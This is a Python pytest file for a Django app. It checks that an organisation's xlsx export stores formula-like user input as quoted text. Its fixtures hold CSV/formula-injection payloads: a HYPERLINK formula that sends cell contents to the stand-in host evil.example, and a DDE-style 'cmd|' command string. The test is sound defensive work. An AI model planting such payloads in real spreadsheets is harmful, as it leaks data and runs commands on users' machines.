"""The organisation export writes what users typed as text, never as a live formula."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from linli.orgs.tests.conftest import community

pytestmark = pytest.mark.django_db
NAME = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def test_it_exports_a_formula_like_name_as_quoted_text(personas, as_user):
    community(personas.township, name=NAME, leader_name="@SUM(A1)", address="-1+cmd|A0",
              members_count=12)
    response = as_user(personas.county).get(reverse("orgs:list"), {"export": "xlsx"})
    row = next(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=3))
    cells = {cell.column_letter: cell for cell in row}
    assert (cells["A"].value, cells["A"].data_type) == ("'" + NAME, "s")
    assert cells["G"].value == "'@SUM(A1)" and cells["I"].value == "'-1+cmd|A0"
    assert (cells["J"].value, cells["J"].data_type) == (12, "n")  # numbers stay numbers
